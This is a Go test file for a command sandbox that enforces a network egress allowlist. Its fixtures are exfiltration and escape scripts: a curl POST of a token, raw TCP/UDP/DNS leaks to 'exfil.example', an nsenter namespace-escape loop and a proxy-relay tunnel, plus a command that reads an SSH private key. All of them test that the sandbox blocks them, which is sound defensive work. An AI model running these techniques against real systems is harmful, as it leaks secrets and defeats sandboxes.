package shim

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"gatesh/egress"
	"gatesh/egress/egresstest"
	"gatesh/enforce"
	"gatesh/internal/needs"
	"gatesh/internal/proctest"
)

// netWorld is a project, a gatesh folder with network = "allowlist", and
// a runtime folder of its own for the network daemons, all beneath one
// folder. With a uid, everything belongs to that user and gatesh runs as
// it.
type netWorld struct {
	base, bin, project, gatesh, runtime string
	uid, gid                            int // 0: the test's own user
	env                                 []string
	// extraConfig is prepended to every config.toml the test writes.
	extraConfig string
}

func newNetWorld(t *testing.T, uid, gid int) *netWorld {
	t.Helper()
	_, err := egress.Nsenter()
	needs.Check(t, "nsenter", err)
	for _, tool := range []string{"curl", "python3"} {
		needs.Program(t, tool)
	}
	base, err := os.MkdirTemp("/var/tmp", "gatesh-net-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(base) })
	proctest.NoneLeft(t, base)
	must(t, os.Chmod(base, 0o755))
	w := &netWorld{base: base, bin: base + "/bin", project: base + "/project", gatesh: base + "/home/.gatesh", runtime: base + "/run", uid: uid, gid: gid}
	for _, d := range []string{w.bin, w.project + "/tools", w.gatesh, w.runtime} {
		must(t, os.MkdirAll(d, 0o755))
	}
	must(t, os.Chmod(w.runtime, 0o700))
	copyExecutable(t, w.bin+"/gatesh")
	copyExecutable(t, w.bin+"/"+egress.DaemonProgram)
	w.env = []string{
		"PATH=" + w.bin + ":" + pathWithoutGatesh(t),
		"HOME=" + base + "/home",
		"GATESH_HOME=" + w.gatesh,
		"GATESH_HOLD_WAIT=0s",
		"XDG_RUNTIME_DIR=" + w.runtime,
		"USER=netuser",
	}
	t.Cleanup(func() { w.stopDaemons(t) })
	return w
}

// chown gives the world to its user.
func (w *netWorld) chown(t *testing.T) {
	if w.uid == 0 {
		return
	}
	must(t, filepath.Walk(w.base, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, w.uid, w.gid)
	}))
}

func (w *netWorld) config(t *testing.T, text string) {
	t.Helper()
	must(t, os.WriteFile(w.gatesh+"/config.toml", []byte(w.extraConfig+text), 0o644))
	w.chown(t)
}

func (w *netWorld) file(t *testing.T, name, text string) {
	t.Helper()
	must(t, os.WriteFile(filepath.Join(w.project, name), []byte(text), 0o755))
	w.chown(t)
}

// run runs `gatesh -c cmd` in the project, as the world's user.
func (w *netWorld) run(t *testing.T, cmd string) (string, int) {
	t.Helper()
	return w.runArgs(t, "-c", cmd)
}

func (w *netWorld) runArgs(t *testing.T, argv ...string) (string, int) {
	t.Helper()
	c := exec.Command(w.bin+"/gatesh", argv...)
	c.Dir = w.project
	c.Env = w.env
	if w.uid != 0 {
		c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(w.uid), Gid: uint32(w.gid)}}
	}
	var out bytes.Buffer
	c.Stdout, c.Stderr = &out, &out
	err := c.Run()
	if err != nil {
		if ee, ok := err.(*exec.ExitError); ok {
			return out.String(), exitStatus(ee.ProcessState)
		}
		t.Fatal(err)
	}
	return out.String(), 0
}

// records are the audit records of one event.
func (w *netWorld) records(t *testing.T, event string) []map[string]any {
	t.Helper()
	data, err := os.ReadFile(w.gatesh + "/audit.jsonl")
	if os.IsNotExist(err) {
		return nil // nothing ran yet
	}
	must(t, err)
	var out []map[string]any
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var rec map[string]any
		must(t, json.Unmarshal(sc.Bytes(), &rec))
		if rec["event"] == event {
			out = append(out, rec)
		}
	}
	return out
}

// lastDecision is the decision record of the last command run.
func (w *netWorld) lastDecision(t *testing.T) map[string]any {
	t.Helper()
	recs := w.records(t, "decision")
	if len(recs) == 0 {
		t.Fatal("no decision logged")
	}
	return recs[len(recs)-1]
}

// stopDaemons ends the network daemons this world started: each
// decision names the holder, whose parent is the daemon; the holder ends
// with it.
func (w *netWorld) stopDaemons(t *testing.T) {
	data, _ := os.ReadFile(w.gatesh + "/audit.jsonl")
	seen := map[int]bool{}
	var stopped []int
	for _, line := range strings.Split(string(data), "\n") {
		_, rest, ok := strings.Cut(line, "held by pid ")
		if !ok {
			continue
		}
		pid, _ := strconv.Atoi(strings.TrimRight(rest[:strings.IndexAny(rest+`"`, `";`)], " "))
		if pid == 0 || seen[pid] {
			continue
		}
		seen[pid] = true
		stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			continue
		}
		f := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))
		// A pid that a fake daemon named may be anyone's child, and a
		// holder whose daemon ended is the child of init or of a
		// subreaper (the CI runner): only a daemon is stopped.
		ppid, _ := strconv.Atoi(f[1])
		comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", ppid))
		if ppid > 1 && ppid != os.Getpid() && strings.TrimSpace(string(comm)) == egress.DaemonProgram {
			syscall.Kill(ppid, syscall.SIGTERM)
			stopped = append(stopped, ppid)
		}
	}
	// The world's folder is removed next: a daemon still ending could
	// write into it after the removal and leave it behind.
	deadline := time.Now().Add(5 * time.Second)
	for _, pid := range stopped {
		for time.Now().Before(deadline) && running(pid) {
			time.Sleep(10 * time.Millisecond)
		}
	}
}

// running reports whether pid is a process that has not ended (a zombie
// has).
func running(pid int) bool {
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return false
	}
	f := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))
	return len(f) > 0 && f[0] != "Z" && f[0] != "X"
}

const hookScript = "#!/bin/sh\n# posts to a chat webhook\ncurl -fsS --max-time 10 -X POST --data 'token=s3cr3t' http://%s/hook\n"

// rawScript ignores the proxy variables: it connects itself over TCP,
// sends a UDP datagram, and looks a name up (a DNS query can carry data
// out in the name).
const rawScript = `import socket, sys
try:
    s = socket.create_connection((sys.argv[1], 80), timeout=5)
    s.sendall(b"POST /raw HTTP/1.0\r\nContent-Length: 6\r\n\r\nsecret")
    print("reached", s.recv(100))
except OSError as e:
    print("blocked:", e)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (sys.argv[1], 53))
    print("udp sent")
except OSError as e:
    print("udp blocked:", e)
try:
    print("resolved", socket.getaddrinfo("c2VjcmV0.exfil.example", 80))
except OSError as e:
    print("dns blocked:", e)
`

// escapeScript tries every network namespace of this user's other
// processes (the daemon's, the agent's) with nsenter.
const escapeScript = `#!/bin/sh
own=$(readlink /proc/self/ns/net)
for f in /proc/[0-9]*/ns/net; do
	ns=$(readlink "$f" 2>/dev/null) || continue
	[ "$ns" = "$own" ] && continue
	if nsenter --net="$f" --preserve-credentials curl -fsS --max-time 3 -o /dev/null http://%s/escape 2>/dev/null; then
		echo "escaped through $f"
	fi
done
echo done
`

// relayScript opens a tunnel to an allowed address through the proxy in
// its environment, then speaks TLS naming another host.
const relayScript = `import base64, os, socket, ssl, sys, urllib.parse
p = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
s = socket.create_connection((p.hostname, p.port), timeout=10)
auth = base64.b64encode(("%s:%s" % (p.username, p.password)).encode()).decode()
s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\nProxy-Authorization: Basic %s\r\n\r\n" % (sys.argv[1], sys.argv[1], auth)).encode())
print("proxy:", s.recv(200).split(b"\r\n")[0].decode())
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname=sys.argv[2])
    t.sendall(("GET /relayed HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % sys.argv[2]).encode())
    print("reached", t.recv(100))
except (OSError, ssl.SSLError) as e:
    print("blocked:", e)
`

// netScripts writes the scripts the tests run: on disk, so the static
// classifier sees only "./tools/hook.sh".
func (w *netWorld) netScripts(t *testing.T, host *egresstest.Host) {
	w.file(t, "tools/hook.sh", fmt.Sprintf(hookScript, host.A))
	w.file(t, "tools/raw.py", rawScript)
	w.file(t, "tools/relay.py", relayScript)
	w.file(t, "tools/escape.sh", fmt.Sprintf(escapeScript, host.A))
}

// checkAllowlist is the core of the network tests, run as root and as a
// plain user: a script cannot post to a host that is not allowed, the log
// and the digest name it, and it can once the host is allowed; a program
// that ignores the proxy has no route, and a tunnel cannot be relayed.
func checkAllowlist(t *testing.T, w *netWorld, host *egresstest.Host) {
	w.netScripts(t, host)
	w.config(t, "network = \"allowlist\"\n")
	out, status := w.run(t, "./tools/hook.sh")
	if status == 0 {
		t.Fatalf("a POST to a host not allowed ran: %s", out)
	}
	dec := w.lastDecision(t)
	if dec["verdict"] != "auto_pass" || !strings.HasPrefix(fmt.Sprint(dec["network"]), "allowlist: ") {
		t.Fatalf("the script was not run in the allowlist: %v", dec)
	}
	refs := w.records(t, "network_refused")
	if len(refs) != 1 {
		t.Fatalf("%d refusals logged; want 1: %v", len(refs), refs)
	}
	r := refs[0]
	if r["dest"] != host.A || r["port"] != float64(80) || r["command"] != "./tools/hook.sh" || r["decision"] != dec["id"] || r["cwd"] != w.project {
		t.Errorf("the refusal does not name the host, port, command and decision %v: %v", dec["id"], r)
	}
	if out, status := w.runArgs(t, "digest", "--since", "1h"); status != 0 || !strings.Contains(out, host.A+":80") || !strings.Contains(out, "./tools/hook.sh") {
		t.Errorf("the digest does not show the refusal: %d %s", status, out)
	}
	if out, _ := w.run(t, "python3 tools/raw.py "+host.A); !strings.Contains(out, "blocked:") {
		t.Errorf("a program that ignores the proxy: %s", out)
	}
	if seen := host.Seen(); len(seen) != 0 {
		t.Fatalf("the test host was reached: %+v", seen)
	}

	w.config(t, fmt.Sprintf("network = \"allowlist\"\nnetwork_allow = [%q, %q]\n", host.A+":80", host.A+":443"))
	if out, status := w.run(t, "./tools/hook.sh"); status != 0 || !strings.Contains(out, "got POST /hook") {
		t.Fatalf("the allowed POST: %d %s", status, out)
	}
	if seen := host.Seen(); len(seen) != 1 || seen[0].Body != "token=s3cr3t" || seen[0].Addr != host.A {
		t.Fatalf("the test host saw %+v", seen)
	}
	out, _ = w.run(t, "python3 tools/raw.py "+host.A)
	if !strings.Contains(out, "\nblocked:") && !strings.HasPrefix(out, "blocked:") || !strings.Contains(out, "udp blocked:") {
		t.Errorf("a program that ignores the proxy, with the host allowed: %s", out)
	}
	if resolverSocket() == "" && !strings.Contains(out, "dns blocked:") {
		t.Errorf("a name was looked up from inside the namespace: %s", out)
	}
	if out, _ := w.run(t, "./tools/escape.sh"); strings.Contains(out, "escaped") || !strings.Contains(out, "done") {
		t.Errorf("a command left the namespace: %s", out)
	}
	for _, c := range []struct{ target, name string }{
		{host.A, "other.test"},   // an allowed address, another server name
		{host.A, "allowed.test"}, // a name for an address
		{host.B, "allowed.test"}, // not allowed
	} {
		if out, _ := w.run(t, "python3 tools/relay.py "+c.target+" "+c.name); !strings.Contains(out, "blocked:") && !strings.Contains(out, "proxy: HTTP/1.1 403") {
			t.Errorf("relay through %s naming %s: %s", c.target, c.name, out)
		}
	}
	for _, s := range host.Seen()[1:] {
		t.Errorf("a relay reached the test host: %+v", s)
	}
}

// resolverSocket is a local resolver's Unix socket, which a command in
// the namespace still reaches: names are then looked up outside it (see
// docs/network.md).
func resolverSocket() string {
	for _, p := range []string{"/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket", "/run/nscd/socket"} {
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	return ""
}

// checkLoopback: a server one command starts on 127.0.0.1 answers the
// next command, and is not on the machine's own loopback.
func checkLoopback(t *testing.T, w *netWorld) {
	w.config(t, "network = \"allowlist\"\n")
	w.file(t, "index.html", "dev server\n")
	port := 20000 + os.Getpid()%20000
	if out, status := w.run(t, fmt.Sprintf("python3 -m http.server --bind 127.0.0.1 %d >/dev/null 2>&1 & echo $! > server.pid", port)); status != 0 {
		t.Fatalf("start the server: %d %s", status, out)
	}
	// The test ends the server itself: a kill through gatesh is a green
	// command, which Landlock keeps from signalling a process outside its
	// own domain.
	data, _ := os.ReadFile(w.project + "/server.pid")
	pid, err := strconv.Atoi(strings.TrimSpace(string(data)))
	must(t, err)
	defer syscall.Kill(pid, syscall.SIGTERM)
	var out string
	var status int
	for range 50 {
		if out, status = w.run(t, fmt.Sprintf("curl -fsS --max-time 2 http://127.0.0.1:%d/index.html", port)); status == 0 {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if status != 0 || out != "dev server\n" {
		t.Fatalf("the next command did not reach the server: %d %q", status, out)
	}
	if out, err := exec.Command("curl", "-fsS", "--max-time", "2", fmt.Sprintf("http://127.0.0.1:%d/index.html", port)).CombinedOutput(); err == nil {
		t.Errorf("the server is on the machine's loopback: %s", out)
	}
}

func TestNetworkAllowlist(t *testing.T) {
	host := egresstest.New(t)
	w := newNetWorld(t, 0, 0)
	checkAllowlist(t, w, host)
}

// With Landlock too, as the two are meant to be used: nsenter opens the
// namespaces gatesh opened before the restriction.
func TestNetworkWithLandlock(t *testing.T) {
	host := egresstest.New(t)
	needs.Landlock(t, enforce.ProbeABI(), enforce.MinABI)
	w := newNetWorld(t, 0, 0)
	w.extraConfig = "enforce = \"landlock\"\n"
	checkAllowlist(t, w, host)
	checkLoopback(t, w)
	if d := w.lastDecision(t); !strings.HasPrefix(fmt.Sprint(d["enforce"]), "landlock v") {
		t.Errorf("Landlock was not applied: %v", d["enforce"])
	}
}

// A project's .gatesh/network.toml can narrow the operator's list, never
// widen it; a list that cannot be read holds the command.
func TestNetworkProjectNarrows(t *testing.T) {
	host := egresstest.New(t)
	w := newNetWorld(t, 0, 0)
	w.netScripts(t, host)
	w.config(t, fmt.Sprintf("network = \"allowlist\"\nnetwork_allow = [%q]\n", host.A+":80"))
	must(t, os.MkdirAll(w.project+"/.gatesh", 0o755))
	// The project names only a registry and another host: the operator's
	// host is no longer allowed, and the other host never was.
	w.file(t, ".gatesh/network.toml", fmt.Sprintf("allow = [\"proxy.golang.org:443\", %q]\n", host.B+":80"))
	if out, status := w.run(t, "./tools/hook.sh"); status == 0 {
		t.Fatalf("the project's list did not narrow: %s", out)
	}
	if out, status := w.run(t, "curl -fsS --max-time 5 http://"+host.B+"/widened"); status == 0 {
		t.Fatalf("the project's list widened the operator's: %s", out)
	}
	if seen := host.Seen(); len(seen) != 0 {
		t.Fatalf("the test host was reached: %+v", seen)
	}
	w.file(t, ".gatesh/network.toml", fmt.Sprintf("allow = [%q]\n", host.A))
	if out, status := w.run(t, "./tools/hook.sh"); status != 0 {
		t.Fatalf("a project list within the operator's: %d %s", status, out)
	}
	for _, bad := range []string{"allow = [\"http://x\"]\n", "allow = \"x\"\n", "deny = []\n"} {
		w.file(t, ".gatesh/network.toml", bad)
		if out, status := w.run(t, "true"); status != ExitHeld || !strings.Contains(out, "network_error") {
			t.Errorf("%q: %d %s", bad, status, out)
		}
	}
}

// A gatesh inside a restricted command (an interposed git, a nested
// gatesh -c) stays in the namespace it is in; a variable claiming so at
// the top does not let a command skip it.
func TestNetworkNestedGatesh(t *testing.T) {
	w := newNetWorld(t, 0, 0)
	w.config(t, "network = \"allowlist\"\n")
	out, status := w.run(t, "readlink /proc/self/ns/net; gatesh -c 'readlink /proc/self/ns/net'")
	lines := strings.Fields(out)
	self, _ := os.Readlink("/proc/self/ns/net")
	if status != 0 || len(lines) != 2 || lines[0] != lines[1] || lines[0] == self {
		t.Fatalf("nested: %d %q", status, out)
	}
	if note := fmt.Sprint(w.lastDecision(t)["network"]); !strings.HasPrefix(note, "inside the namespace") {
		t.Errorf("the nested decision says %q", note)
	}
	if u, _ := os.Readlink("/proc/self/ns/user"); u != "user:[4026531837]" {
		return // this test runs inside a namespace already: self is not the machine's
	}
	w.env = append(w.env, "GATESH_NETNS="+self)
	if out, _ := w.run(t, "readlink /proc/self/ns/net"); strings.TrimSpace(out) == self {
		t.Errorf("GATESH_NETNS let a command run in the machine's namespace")
	}
}

// A restriction that cannot be set up holds the command.
func TestNetworkFailsClosed(t *testing.T) {
	w := newNetWorld(t, 0, 0)
	w.config(t, "network = \"allowlist\"\n")
	must(t, os.WriteFile(w.project+"/victim", []byte("keep\n"), 0o644))
	sockets := w.gatesh + "/net/0"
	must(t, os.MkdirAll(sockets, 0o700))
	must(t, os.Chmod(sockets, 0o755)) // a folder others may enter
	if out, status := w.run(t, "rm victim"); status != ExitHeld || !strings.Contains(out, "network_error") {
		t.Errorf("runtime folder open to others: %d %s", status, out)
	}
	must(t, os.Chmod(sockets, 0o700))
	must(t, os.Remove(w.bin+"/"+egress.DaemonProgram))
	if out, status := w.run(t, "rm victim"); status != ExitHeld || !strings.Contains(out, "gatesh-net is not installed") {
		t.Errorf("no gatesh-net: %d %s", status, out)
	}
	// One on PATH is not taken: the command's environment sets PATH.
	other := t.TempDir()
	copyExecutable(t, other+"/"+egress.DaemonProgram)
	w.env = append(w.env, "PATH="+other+":/usr/bin:/bin")
	if out, status := w.run(t, "rm victim"); status != ExitHeld {
		t.Errorf("gatesh-net from PATH: %d %s", status, out)
	}
	if _, err := os.Stat(w.project + "/victim"); err != nil {
		t.Fatal("a command ran without its restriction")
	}
}

func TestNetworkLoopbackAcrossCommands(t *testing.T) {
	checkLoopback(t, newNetWorld(t, 0, 0))
}

// An approved red command runs as before: outside the namespace.
func TestNetworkRedCommandRunsAsBefore(t *testing.T) {
	w := newNetWorld(t, 0, 0)
	w.config(t, "network = \"allowlist\"\n")
	must(t, os.MkdirAll(w.base+"/home/.ssh", 0o700))
	must(t, os.WriteFile(w.base+"/home/.ssh/id_ed25519", []byte("KEY\n"), 0o600))
	self, _ := os.Readlink("/proc/self/ns/net")
	if out, _ := w.run(t, "readlink /proc/self/ns/net"); strings.TrimSpace(out) == self || !strings.HasPrefix(out, "net:") {
		t.Fatalf("a green command ran in the machine's network namespace: %s", out)
	}
	red := "cat ~/.ssh/id_ed25519 >/dev/null; readlink /proc/self/ns/net"
	if out, status := w.runArgs(t, "init"); status != 0 {
		t.Fatalf("init: %s", out)
	}
	out, status := w.run(t, red)
	if status != ExitHeld {
		t.Fatalf("a red command was not held: %d %s", status, out)
	}
	if d := w.lastDecision(t); d["network"] != nil {
		t.Errorf("a held command was given a namespace: %v", d)
	}
	if out, status := w.runArgs(t, "approve", requestID(t, out)); status != 0 {
		t.Fatalf("approve: %s", out)
	}
	if out, status := w.run(t, red); status != 0 || !strings.HasSuffix(out, "\n"+self+"\n") {
		t.Errorf("the approved command: %d %q; want it in %s, as without gatesh", status, out, self)
	}
}

// The restriction holds for an ordinary user, who makes the namespaces
// without any privilege.
func TestNetworkPlainUser(t *testing.T) {
	host := egresstest.New(t)
	_, uid, gid := addAgentUser(t)
	w := newNetWorld(t, uid, gid)
	w.chown(t)
	if out, status := w.run(t, "id -u"); status != 0 || strings.TrimSpace(out) != strconv.Itoa(uid) {
		t.Fatalf("the command's user: %d %q", status, out)
	}
	checkAllowlist(t, w, host)
	checkLoopback(t, w)
}

// Where the machine denies user namespaces, a command runs unrestricted,
// the log says network_unenforced, and doctor explains. The test makes
// such a machine: a user namespace whose limit on user namespaces is 0.
func TestNetworkFallbackWithoutUserNamespaces(t *testing.T) {
	host := egresstest.New(t)
	_, uid, gid := addAgentUser(t)
	for _, who := range []struct {
		name     string
		uid, gid int
	}{{"plain user", uid, gid}, {"root", 0, 0}} {
		t.Run(who.name, func(t *testing.T) {
			w := newNetWorld(t, who.uid, who.gid)
			w.netScripts(t, host)
			w.config(t, "network = \"allowlist\"\n")
			before := len(host.Seen())
			out, status := w.runDenied(t, "-c", "./tools/hook.sh")
			if status != 0 || !strings.Contains(out, "got POST /hook") {
				t.Fatalf("the command did not run unrestricted: %d %s", status, out)
			}
			if len(host.Seen()) != before+1 {
				t.Fatalf("the test host saw %+v", host.Seen())
			}
			note := fmt.Sprint(w.lastDecision(t)["network"])
			if !strings.HasPrefix(note, "network_unenforced: ") || !strings.Contains(note, "ran unrestricted") {
				t.Errorf("the log says %q", note)
			}
			out, _ = w.runDenied(t, "doctor")
			if !strings.Contains(out, "network allowlist") || !strings.Contains(out, "unrestricted") || !strings.Contains(out, "user namespaces") {
				t.Errorf("doctor does not explain: %s", out)
			}
		})
	}
}

// runDenied runs gatesh, as the world's user, in a user namespace that
// may make no user namespaces of its own.
func (w *netWorld) runDenied(t *testing.T, args ...string) (string, int) {
	t.Helper()
	inner := strings.Join(append([]string{"exec", "setpriv", "--reuid=" + strconv.Itoa(w.uid), "--regid=" + strconv.Itoa(w.gid), "--clear-groups", w.bin + "/gatesh"}, quoteAll(args)...), " ")
	c := exec.Command("/bin/sh", "-c", "echo 0 > /proc/sys/user/max_user_namespaces && "+inner)
	c.Dir = w.project
	c.Env = w.env
	maps := []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}}
	if w.uid != 0 {
		maps = append(maps, syscall.SysProcIDMap{ContainerID: w.uid, HostID: w.uid, Size: 1})
	}
	gmaps := []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}}
	if w.gid != 0 {
		gmaps = append(gmaps, syscall.SysProcIDMap{ContainerID: w.gid, HostID: w.gid, Size: 1})
	}
	c.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: maps, GidMappings: gmaps, GidMappingsEnableSetgroups: true}
	out, err := c.CombinedOutput()
	if _, ok := err.(*exec.ExitError); err != nil && !ok {
		t.Fatal(err)
	}
	return string(out), exitStatus(c.ProcessState)
}

func quoteAll(args []string) []string {
	out := make([]string, len(args))
	for i, a := range args {
		out[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	return out
}
